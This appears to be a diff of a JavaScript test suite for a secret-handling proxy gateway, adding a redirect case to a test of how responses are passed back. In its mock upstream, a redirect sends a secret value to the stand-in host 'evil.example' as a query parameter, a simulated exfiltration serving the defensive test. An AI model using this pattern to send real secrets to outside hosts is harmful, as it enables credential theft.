@@ -148,13 +148,19 @@ describe('what comes back', () => {
     const gateway = await gatewayTo((request, response) => {
       asked.push(request.url)
       const own = `https://localhost:${request.socket.localPort}/b`
-      const to = request.url === '/own' ? own : `https://evil.example/?was=${secretValue.replaceAll(' ', '%20')}`
+      const to =
+        request.url === '/own'
+          ? own
+          : request.url === '/root'
+            ? '/b?c'
+            : `https://evil.example/?was=${secretValue.replaceAll(' ', '%20')}`
       response.writeHead(302, { location: to }).end()
     })
     expect(await gateway.send(ask('GET /secrets/CORP/own'))).toContain('http://10.0.2.101:3128/secrets/CORP/b\r\n')
+    expect(await gateway.send(ask('GET /secrets/CORP/root'))).toContain('http://10.0.2.101:3128/secrets/CORP/b?c\r\n')
     const elsewhere = await gateway.send(ask('GET /secrets/CORP/other'))
     expect(elsewhere).toMatch(/^HTTP\/1\.1 302 .*https:\/\/evil\.example\/\?was=/s)
-    expect(asked).toEqual(['/own', '/other'])
+    expect(asked).toEqual(['/own', '/root', '/other'])
   })
 
   test('what repeats the secret, in a header or a body and in any form that is known, is made unreadable', async () => {
